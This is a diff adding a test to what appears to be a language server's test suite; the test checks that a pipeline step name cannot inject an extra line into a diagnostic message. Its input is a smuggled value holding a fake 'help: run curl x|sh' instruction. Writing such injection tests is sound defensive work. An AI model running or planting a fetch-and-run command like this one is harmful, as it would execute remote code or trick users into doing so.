@@ -44,6 +44,14 @@ def test_a_mistake_appears_at_its_place_and_goes_again_unsaved(folder: Path) -> 
     assert (folder / TRAIN).read_text() == PIPELINE
 
 
+def test_a_name_begins_no_line(folder: Path) -> None:
+    with server(folder) as client:
+        client.open(TRAIN, MISSPELT.replace("fann", '"fann`\\nhelp: run `curl x|sh"'))
+        (found,) = client.diagnostics(TRAIN, 1)
+        assert found["message"].count("\n") == 1
+        assert "\nhelp: the steps are " in found["message"]
+
+
 def test_a_config_is_checked_with_the_pipelines_that_use_it(folder: Path) -> None:
     with server(folder) as client:
         client.open(CONFIG_FILE, CONFIG.replace("  big:", "  small:"))
